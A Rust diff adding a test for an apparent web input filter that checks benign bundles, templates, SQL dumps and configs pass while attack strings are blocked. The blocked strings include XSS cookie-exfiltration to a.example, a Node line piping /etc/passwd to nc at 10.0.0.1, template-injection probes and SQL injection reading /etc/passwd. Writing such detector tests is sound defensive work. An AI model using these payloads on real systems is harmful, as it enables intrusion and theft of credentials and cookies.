@@ -537,3 +537,104 @@ fn pieces_of_programs() {
     check.blocked(Class::Sqli, "q", "' or `id`-- ");
     check.done();
 }
+
+#[test]
+fn files_as_programs_and_people_write_them() {
+    let mut check = Check::default();
+    let long = "/* what was made small */".repeat(60);
+    // A program that was made small is one line.
+    let bundle = format!(
+        "\"use strict\";(self.chunks=self.chunks||[]).push([[1],{{2:(e,t,r)=>{{r.d(t,{{Z:()=>n}});var n='a'+r(3)}}}}]);{long}"
+    );
+    check.passes(Class::Xss, "content", &bundle);
+    check.blocked(Class::Xss, "q", "\";(self.a=self.b||[]).push(alert(1));//");
+    let class = format!("class ${{constructor(e,t){{this.text=void 0,this.height=e(t)}}}}{long}");
+    check.passes(Class::Template, "content", &class);
+    check.blocked(
+        Class::Template,
+        "content",
+        &class.replace("class ${constructor(", "x ${constructor.constructor("),
+    );
+    let scripts =
+        ["const { spawn } = require('child_process')", "import { spawn } from 'node:child_process'"];
+    for line in scripts {
+        check.passes(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nmodule.exports = (a) => spawn(process.execPath, a, {{ stdio: 'inherit' }})\n"));
+        check.blocked(Class::Code, "content", &format!("'use strict'\n\n{line}\n\nrequire('child_process').exec('cat /etc/passwd | nc 10.0.0.1 99')\n// a comment to be long\n"));
+    }
+    // Templates that are data to a browser.
+    for kind in ["text/x-red", "text/x-handlebars-template", "application/vnd.api+json"] {
+        check.passes(
+            Class::Xss,
+            "html",
+            &format!("<script type=\"{kind}\" data-name=\"a\"><p>{{{{ a }}}}</p></script>"),
+        );
+    }
+    for kind in ["text/javascript", "text/babel", "text/ng-template", "text/java&#x73;cript", "module", "x"] {
+        check.blocked(
+            Class::Xss,
+            "comment",
+            &format!("<script type=\"{kind}\">fetch('//a.example/?'+document.cookie)</script>"),
+        );
+    }
+    let page = |handler: &str| {
+        format!(
+            "<!DOCTYPE html>\n<html><head><title>Help</title></head><body>\n<a href=\"#\" onclick=\"{handler}\">More</a>\n</body></html>\n"
+        )
+    };
+    check.passes(Class::Xss, "content", &page("window.open('a_b.html', '', ''); return false;"));
+    for handler in [
+        "window.open('//a.example/'+document.cookie)",
+        "window.open('javascript:alert(1)')",
+        "window.open('a.html', '', '');alert(1)",
+    ] {
+        check.blocked(Class::Xss, "content", &page(handler));
+    }
+    check.passes(
+        Class::Command,
+        "content",
+        &"const id = this.id;\nreturn base !== null && id !== void 0 ? id : base;\n".repeat(3),
+    );
+    check.blocked(Class::Command, "content", "true && id\n");
+    // Texts of several lines between three quotes.
+    let toml = "[package]\nname = \"a\"\nreplace = \"\"\"\n<!-- next-header -->\n## [Unreleased] - ReleaseDate\n\"\"\"\nexactly = 1\n\n[[package.replacements]]\nfile = \"CHANGELOG.md\"\n";
+    check.passes(Class::Sqli, "content", toml);
+    check.blocked(Class::Sqli, "content", &format!("{toml}x\" or 1=1 -- "));
+    check.blocked(Class::Sqli, "content", &format!("{toml}x = \"\"\" y\n' or 1=1 -- "));
+    let code = "int once_tid = mi_atomic_load_acquire(&once->tid);\nif (once_tid == 0) {\n  return mi_run(once_tid, \"a\");\n}\n".repeat(2);
+    check.passes(Class::Xss, "content", &code);
+    // Charts for Kubernetes, in Go's templates.
+    let chart = "metadata:\n  name: {{ include \"app.name\" . }}\n  labels: {{- toYaml .Values.labels | nindent 4 }}\n  port: {{ default \"80\" .Values.port }}\n  {{- range printf \"%s\" .Values.hosts }}\n  {{- end }}\n";
+    check.passes(Class::Template, "content", chart);
+    check.passes(Class::Template, "comment", chart);
+    for text in [
+        "{{ 'a' .class }}",
+        "{{ not ''.__class__ }}",
+        "{{ ''.__class__.__mro__ }}",
+        "{{ empty ''.getClass() }}",
+    ] {
+        check.blocked(Class::Template, "content", text);
+        check.blocked(Class::Template, "q", text);
+    }
+    check.passes(
+        Class::Template,
+        "content",
+        &format!(
+            "====== Admin ======\n\nSee [[doku>config]] and [[wiki:syntax]].\n{}",
+            "More words. ".repeat(10)
+        ),
+    );
+    let dump = "CREATE TABLE `a` (\n  `b` int(10) UNSIGNED NOT NULL AUTO_INCREMENT,\n  `c` varchar(128) NOT NULL,\n  PRIMARY KEY (`b`)\n) /*!40000 ENGINE=INNODB */ /*!40101 CHARACTER SET utf8 */;\n";
+    check.passes(Class::Sqli, "content", dump);
+    check.passes(
+        Class::Sqli,
+        "content",
+        &format!("-- Updates from version 0.6\n\n/*!40014 SET FOREIGN_KEY_CHECKS=0 */;\n\n{dump}"),
+    );
+    check.blocked(
+        Class::Sqli,
+        "content",
+        &dump.replace("ENGINE=INNODB", "UNION SELECT load_file('/etc/passwd')"),
+    );
+    check.blocked(Class::Sqli, "q", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3");
+    check.done();
+}
